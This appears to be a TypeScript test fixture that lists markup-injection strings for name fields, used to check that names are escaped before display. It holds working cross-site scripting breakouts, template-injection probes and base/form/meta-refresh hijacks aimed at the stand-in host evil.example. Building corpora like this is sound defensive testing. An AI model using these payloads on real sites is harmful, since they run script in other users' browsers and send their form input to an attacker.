/** What somebody could put where a name belongs, to have it run in the browser of whoever reads the name. */
export const markupCorpus: readonly string[] = [
  `"><svg onload=poortRan()>`,
  `'><img src=x onerror=poortRan()>`,
  `</title><script>poortRan()</script>`,
  `--><script>poortRan()</script><!--`,
  `</textarea></style></script><iframe srcdoc="<script>parent.poortRan()</script>">`,
  `" autofocus onfocus=poortRan() x="`,
  `javascript:poortRan()//`,
  `<%= process.env %><%- view.body %>`,
  `{{tenant}} $t(sign_in.step) {{{x}}}`,
  `<base href="https://evil.example/"><form action="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `\u202emoc.live\u202c <a href=//evil.example>here</a>`,
  `&lt;svg onload=poortRan()&gt;&#34;&#x22;`,
  `<math><mi xlink:href="data:x,<script>poortRan()</script>">`,
];
